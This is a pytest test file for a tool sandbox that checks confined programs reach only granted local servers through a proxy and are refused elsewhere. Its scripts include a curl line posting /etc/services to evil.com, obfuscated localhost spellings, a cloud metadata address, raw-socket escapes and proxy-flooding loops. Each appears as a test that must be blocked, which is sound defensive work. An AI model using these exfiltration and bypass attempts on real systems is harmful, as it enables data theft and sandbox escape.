"""Real tools, really confined, reach servers of this machine: as granted, and not otherwise."""

import asyncio
import http.server
import os
import shutil
import socket
import ssl
import subprocess
import sys
import threading
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from skillpouch.backends import runners
from skillpouch.errors import SandboxUnavailableError
from skillpouch.execution.command import Command, Ended, PreforkSpec, Prestarted
from skillpouch.execution.confinement import Confinement
from skillpouch.execution.engine import Engine
from skillpouch.execution.sandbox_client import PROGRAM
from skillpouch.execution.zygote_client import probe
from skillpouch.limits import Limits

PYTHON, NODE = "/usr/bin/python3", shutil.which("node") or ""
RUNNERS = Path(str(runners.__file__)).parent
URLLIB = "import sys, urllib.request as u; print(u.urlopen(sys.argv[1]).read().decode())"

pytestmark = [
    pytest.mark.slow,
    pytest.mark.timeout(120),
    pytest.mark.skipif(not probe().namespaces, reason="needs a network of its own"),
    pytest.mark.skipif(not Path(PYTHON).exists(), reason="needs a Python of the system"),
]

Reach = Callable[..., Awaitable[Ended]]


async def until(fact: Callable[[], bool]) -> None:
    """Wait for a fact; the time limit of the test bounds it."""
    while not fact():
        await asyncio.sleep(0.01)


class Answering(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self._say(f"{self.path} for {self.headers['Host']}".encode())

    def do_POST(self) -> None:
        self._say(self.rfile.read(int(self.headers["Content-Length"])))

    def _say(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def certificate(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A throw-away certificate for 127.0.0.1, with its key in the same file."""
    if shutil.which("openssl") is None:
        pytest.skip("needs openssl to make a certificate")
    file = tmp_path_factory.mktemp("certificate") / "both.pem"
    words = "req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=skillpouch-test"
    extra = ["-addext", "subjectAltName=IP:127.0.0.1", "-keyout", str(file), "-out", f"{file}.crt"]
    subprocess.run(["openssl", *words.split(), *extra], check=True, capture_output=True)
    file.write_text(file.read_text() + Path(f"{file}.crt").read_text())
    return file


def serving(secured_by: Path | None) -> Iterator[int]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answering)
    if secured_by is not None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(secured_by)
        server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server.server_port
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture(scope="module")
def web() -> Iterator[int]:
    yield from serving(None)


@pytest.fixture(scope="module")
def secure_web(certificate: Path) -> Iterator[int]:
    yield from serving(certificate)


@pytest.fixture
def reach(engine: Engine, workspace: Path) -> Reach:
    async def run(*argv: str, hosts: tuple[str, ...] = (), **options: Any) -> Ended:
        command = Command(
            argv=argv,
            env={"PATH": "/usr/bin:/bin", "NO_PROXY": "*", **options.pop("env", {})},
            cwd=workspace,
            limits=Limits(**options.pop("limits", {})),
            **options.pop("command", {}),
        )
        confinement = Confinement(
            workspace=workspace,
            network="hosts",
            hosts=hosts,
            skill_name="weather",
            readable=(PROGRAM.parents[1], RUNNERS),
            **options,
        )
        return await engine.run(command, confinement)

    return run


def said(ended: Ended) -> tuple[str, str, tuple[str, ...]]:
    return ended.stdout.text.strip(), ended.stderr.text, ended.refused_hosts


async def test_python_reaches_a_host_that_was_granted(reach: Reach, web: int) -> None:
    url = f"http://127.0.0.1:{web}/a?b"

    ended = await reach(PYTHON, "-c", URLLIB, url, hosts=(f"127.0.0.1:{web}",))

    assert said(ended) == (f"/a?b for 127.0.0.1:{web}", "", ())
    assert ended.protections["net"] == "netns+seccomp+hosts"


async def test_python_reaches_it_through_a_tunnel_with_its_own_encryption(
    reach: Reach, secure_web: int, certificate: Path
) -> None:
    trusted = {"SSL_CERT_FILE": f"{certificate}.crt"}
    url = f"https://127.0.0.1:{secure_web}/a"

    ended = await reach(
        *(PYTHON, "-c", URLLIB, url),
        hosts=(f"127.0.0.1:{secure_web}",),
        env=trusted,
        writable=(certificate.parent,),
    )

    assert said(ended) == (f"/a for 127.0.0.1:{secure_web}", "", ())


async def test_the_client_of_the_standard_library_and_requests_reach_it(
    reach: Reach, web: int
) -> None:
    client = (
        "import http.client, sys; c = http.client.HTTPConnection('127.0.0.1', 3128);"
        "c.set_tunnel('127.0.0.1', int(sys.argv[1])); c.request('POST', '/', b'hello');"
        "print(c.getresponse().read().decode())"
    )
    requests = "import sys; from pip._vendor import requests; print(requests.get(sys.argv[1]).text)"
    hosts = (f"127.0.0.1:{web}",)
    interpreter = Path(sys.base_prefix)

    by_client = await reach(PYTHON, "-c", client, str(web), hosts=hosts)
    by_requests = await reach(
        *(f"{interpreter}/bin/python3", "-c", requests, f"http://127.0.0.1:{web}/r"),
        hosts=hosts,
        interpreters=(interpreter,),
    )

    assert said(by_client) == ("hello", "", ())
    assert said(by_requests) == (f"/r for 127.0.0.1:{web}", "", ())


@pytest.mark.skipif(shutil.which("curl") is None, reason="needs curl")
async def test_curl_in_bash_reaches_what_was_granted_and_is_told_about_the_rest(
    reach: Reach, web: int, secure_web: int
) -> None:
    script = (
        f"curl -sS http://127.0.0.1:{web}/c; echo; curl -sSk https://127.0.0.1:{secure_web}/s;"
        f"echo; curl -sS http://localhost:{web}/; curl -sS -d @/etc/services http://evil.com/"
    )
    hosts = (f"127.0.0.1:{web}", f"127.0.0.1:{secure_web}")

    ended = await reach("/bin/bash", "-c", script, hosts=hosts)

    assert ended.stdout.text.splitlines() == [
        f"/c for 127.0.0.1:{web}",
        f"/s for 127.0.0.1:{secure_web}",
        (
            f"skillpouch: localhost:{web} is not granted; "
            f"run: skillpouch trust weather --host localhost:{web}"
        ),
        "skillpouch: evil.com is not granted; run: skillpouch trust weather --host evil.com",
    ]
    assert ended.refused_hosts == (f"localhost:{web}", "evil.com")


NODE_SCRIPT = """
import http from 'node:http';
export default ({ url }) => new Promise((done, fail) => {
  const proxy = new URL(process.env.HTTP_PROXY);
  http.get({ host: proxy.hostname, port: proxy.port, path: url }, (answer) => {
    let text = '';
    answer.on('data', (piece) => { text += piece; });
    answer.on('end', () => done(text));
  }).on('error', fail);
});
"""


@pytest.mark.skipif(not NODE, reason="needs Node")
async def test_a_node_that_was_started_ahead_reaches_it(
    reach: Reach, web: int, workspace: Path
) -> None:
    script, runner = workspace / "get.mjs", str(RUNNERS / "call_node.mjs")
    script.write_text(NODE_SCRIPT)
    env = {"SKILLPOUCH_ANSWER": "3", "SKILLPOUCH_ARGUMENTS": "variable"}
    node = os.path.realpath(NODE)

    async def call(path: str) -> Ended:
        url = f'{{"url": "http://127.0.0.1:{web}{path}"}}'
        waiting = Prestarted(argv=(node, runner, "--wait"), env=tuple(env.items()), cwd=workspace)
        return await reach(
            *(node, runner, str(script)),
            hosts=(f"127.0.0.1:{web}",),
            env={**env, "TOOL_ARGS": url},
            command={"answers": True, "warm": waiting},
        )

    answers = [await call(path) for path in ("/1", "/2", "/3")]

    wanted = [f'"/{number} for 127.0.0.1:{web}"' for number in (1, 2, 3)]
    found = [ended.answer.decode().strip() for ended in answers]
    assert [text for text in wanted if not any(text in answer for answer in found)] == [], found
    assert all(ended.warm for ended in answers)


async def test_a_warm_python_reaches_it_and_a_call_is_told_its_own_refusals_only(
    reach: Reach, web: int, workspace: Path
) -> None:
    script = workspace / "get.py"
    script.write_text("import urllib.error\n" + URLLIB)

    async def call(url: str) -> Ended:
        prefork = PreforkSpec(
            program=(PYTHON,),
            script=str(script),
            runner="",
            folders=(str(workspace),),
            env=(),
            cwd=workspace,
        )
        argv = (PYTHON, str(script), url)
        return await reach(*argv, hosts=(f"127.0.0.1:{web}",), command={"warm": prefork})

    urls = [f"http://127.0.0.1:{web}/1", "http://evil.com/", f"http://127.0.0.1:{web}/2"]
    first, refused, last = [await call(url) for url in urls]

    assert (said(first), first.warm) == ((f"/1 for 127.0.0.1:{web}", "", ()), True)
    assert (refused.outcome, refused.refused_hosts, refused.warm) == ("failed", ("evil.com",), True)
    assert "skillpouch trust weather --host evil.com" in refused.stderr.text
    assert (said(last), last.warm) == ((f"/2 for 127.0.0.1:{web}", "", ()), True)


@pytest.mark.promise("net-5")
@pytest.mark.parametrize(
    "host",
    [
        "127.0.0.1:1",
        "localhost:{web}",
        "127.1:{web}",
        "2130706433:{web}",
        "0x7f.0.0.1:{web}",
        "0177.0.0.1:{web}",
        "[::1]:{web}",
        "127.0.0.1.:1",
        "user@127.0.0.1:{web}",
        "0.0.0.0:{web}",
        "127.0.0.2:{web}",
        "[::ffff:7f00:2]:{web}",
        "LOCALHOST.:{web}",
        "169.254.169.254",
    ],
)
async def test_no_spelling_reaches_what_was_not_granted(reach: Reach, web: int, host: str) -> None:
    asked = host.format(web=web)
    ask = (
        "import socket, sys\n"
        "for first in (f'CONNECT {sys.argv[1]}', f'GET http://{sys.argv[1]}/'):\n"
        "    s = socket.create_connection(('127.0.0.1', 3128))\n"
        "    s.sendall(f'{first} HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n'.encode())\n"
        "    print(s.recv(1000)[:12].decode())\n"
    )

    ended = await reach(PYTHON, "-c", ask, asked, hosts=(f"127.0.0.1:{web}",))

    assert set(ended.stdout.text.splitlines()) <= {"HTTP/1.1 403", "HTTP/1.1 400"}
    assert len(ended.stdout.text.splitlines()) == 2


@pytest.mark.promise("net-8")
async def test_without_the_proxy_there_is_no_way(reach: Reach, web: int) -> None:
    tries = """
import socket, sys
web = int(sys.argv[1])
def tcp(family, address): socket.socket(family).connect(address)
def send(): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 53))
for name, attempt in {
    'port': lambda: tcp(socket.AF_INET, ('127.0.0.1', web)),
    'ipv6': lambda: tcp(socket.AF_INET6, ('::1', web)),
    'mapped': lambda: tcp(socket.AF_INET6, ('::ffff:127.0.0.1', web)),
    'elsewhere': lambda: tcp(socket.AF_INET, ('127.0.0.2', 3128)),
    'udp': send,
    'mptcp': lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262),
    'raw': lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
    'netlink': lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW),
    'unix': lambda: socket.socket(socket.AF_UNIX),
    'seqpacket': lambda: socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET),
}.items():
    try: attempt()
    except OSError as error: continue
    print(name)
"""

    ended = await reach(PYTHON, "-c", tries, str(web), hosts=("127.0.0.1:9", "example.com"))

    assert said(ended) == ("", "", ())


PLAIN = """
import socket, sys
for host in ("127.0.0.1", "localhost"):
    with socket.create_connection((host, int(sys.argv[1]))) as s:
        s.sendall(b"GET /plain HTTP/1.0\\r\\nHost: itself\\r\\n\\r\\n")
        print(b"".join(iter(lambda: s.recv(1000), b"")).decode().splitlines()[-1])
"""


@pytest.mark.promise("net-5")
@pytest.mark.parametrize("granted", ["127.0.0.1", "localhost"])
async def test_a_granted_server_of_this_machine_serves_programs_that_know_no_proxy(
    reach: Reach, web: int, granted: str
) -> None:
    for _ in range(2):  # the second time in the sandbox of the first
        ended = await reach(PYTHON, "-c", PLAIN, str(web), hosts=(f"{granted}:{web}",))

        assert said(ended) == ("/plain for itself\n/plain for itself", "", ())


@pytest.mark.promise("net-8")
async def test_a_server_of_this_machine_is_relayed_only_by_its_granted_port(
    reach: Reach, web: int
) -> None:
    ended = await reach(PYTHON, "-c", PLAIN, str(web), hosts=("127.0.0.1:9", "localhost"))

    assert "ConnectionRefusedError" in ended.stderr.text


async def test_where_nobody_listens_at_a_granted_port_the_connection_is_reset(
    reach: Reach,
) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]

    ended = await reach(PYTHON, "-c", PLAIN, str(port), hosts=(f"127.0.0.1:{port}",))

    assert "ConnectionResetError" in ended.stderr.text or "BrokenPipeError" in ended.stderr.text


@pytest.mark.promise("net-8")
async def test_calls_at_the_same_time_have_each_a_network_of_their_own(reach: Reach) -> None:
    script = "import os, time; print(os.readlink('/proc/self/ns/net')); time.sleep(0.3)"

    first, second = await asyncio.gather(*(reach(PYTHON, "-c", script) for _ in range(2)))

    assert first.stdout.text != second.stdout.text
    ours = str(Path("/proc/self/ns/net").readlink())
    assert ours not in (first.stdout.text.strip(), second.stdout.text.strip())


class Echo:
    """A server that keeps what connects to it open, and knows when each connection ended."""

    def __init__(self) -> None:
        self.ended: asyncio.Queue[bytes] = asyncio.Queue()
        self.begun = 0

    async def begin(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.begun += 1
        try:
            heard = await reader.read(-1)
        except OSError:
            heard = b"reset"
        await self.ended.put(heard)
        writer.close()


@pytest.fixture
async def echo() -> AsyncIterator[tuple[Echo, int]]:
    echo = Echo()
    server = await asyncio.start_server(echo.begin, "127.0.0.1", 0)
    yield echo, server.sockets[0].getsockname()[1]
    server.close()


HOLD = """
import os, socket, sys, time
s = socket.create_connection(('127.0.0.1', 3128))
s.sendall(f'CONNECT 127.0.0.1:{sys.argv[1]} HTTP/1.1\\r\\n\\r\\n'.encode())
assert b'200' in s.recv(1000)
s.sendall(b'held')
"""


@pytest.mark.promise("net-9")
@pytest.mark.parametrize(
    "ending", ["os._exit(0)", "time.sleep(1000)", "os.fork() or time.sleep(9)"]
)
async def test_connections_end_with_their_call_however_it_ends(
    reach: Reach, echo: tuple[Echo, int], ending: str
) -> None:
    server, port = echo
    hosts = (f"127.0.0.1:{port}",)

    heard = b""

    for seconds in (1, 4, 16):  # a busy machine may need longer to begin than a call may take
        server.begun = 0
        limits = {"timeout_seconds": seconds}
        await reach(PYTHON, "-c", HOLD + ending, str(port), hosts=hosts, limits=limits)
        heard = await server.ended.get() if server.begun else b""
        if heard:
            break

    assert heard == b"held"
    await until(lambda: not any("Connection" in repr(task) for task in asyncio.all_tasks()))


ABUSE = {
    "opens and closes": "for _ in range(2000): connect().close()",
    "opens and holds": "all = [connect(wait=False) for _ in range(900)]",
    "never reads": "for _ in range(50): ask(connect(), f'CONNECT 127.0.0.1:{port}')",
    "asks for many": "for n in range(300): ask(connect(), f'CONNECT h{n}.evil.com:443')",
    "drips": "s = [connect() for _ in range(40)]\nfor _ in range(20): s[0].send(b'G')",
    "sends for ever": "s = connect()\nfor _ in range(2000): s.send(b'x' * 65536)",
}
ABUSED = """
import contextlib, socket, sys
port = int(sys.argv[1])
def connect(wait=True):
    s = socket.socket()
    s.settimeout(2 if wait else 0)
    with contextlib.suppress(BlockingIOError): s.connect(('127.0.0.1', 3128))
    return s
def ask(s, words): s.sendall((words + ' HTTP/1.1\\r\\n\\r\\n').encode()); kept.append(s)
kept = []
with contextlib.suppress(OSError):
"""


@pytest.mark.promise("net-9")
@pytest.mark.parametrize("abuse", ABUSE)
async def test_a_tool_that_abuses_its_proxy_leaves_nothing_behind(
    reach: Reach, web: int, abuse: str
) -> None:
    hosts = (f"127.0.0.1:{web}",)
    await reach(PYTHON, "-c", "", hosts=hosts)
    before, tasks = _descriptors(), len(asyncio.all_tasks())
    code = ABUSED + "\n".join(f"    {line}" for line in ABUSE[abuse].split("\n"))

    ended = await reach(PYTHON, "-c", code, str(web), hosts=hosts, limits={"timeout_seconds": 20})
    url = f"http://127.0.0.1:{web}/after"
    after = await reach(PYTHON, "-c", URLLIB, url, hosts=hosts)
    await until(lambda: _descriptors() <= before and len(asyncio.all_tasks()) <= tasks)

    assert ended.outcome in ("ok", "timed_out"), ended.stderr.text
    assert len(ended.refused_hosts) <= 64
    assert said(after) == (f"/after for 127.0.0.1:{web}", "", ())


def _descriptors() -> int:
    return sum(1 for _ in Path("/proc/self/fd").iterdir())


async def test_other_calls_go_on_while_a_tool_hammers_its_proxy(reach: Reach, web: int) -> None:
    hammer = ABUSED + "    while True: connect().close()"
    hosts = (f"127.0.0.1:{web}",)
    limits = {"timeout_seconds": 1.5}
    hammering = asyncio.ensure_future(
        reach(PYTHON, "-c", hammer, str(web), hosts=hosts, limits=limits)
    )
    served = 0

    while not hammering.done():
        ended = await reach(PYTHON, "-c", URLLIB, f"http://127.0.0.1:{web}/", hosts=hosts)
        served += ended.outcome == "ok"

    assert (await hammering).outcome == "timed_out"
    assert served > 0


async def test_hosts_without_namespaces_are_refused(workspace: Path) -> None:
    from tests.execution.test_confinement import CONTAINER

    command = Command(argv=("/bin/true",), env={}, cwd=workspace)
    confinement = Confinement(workspace=workspace, network="hosts", hosts=("example.com",))

    async with Engine(machine=CONTAINER) as engine:
        with pytest.raises(SandboxUnavailableError) as caught:
            await engine.run(command, confinement)

    assert caught.value.missing == ("net",)
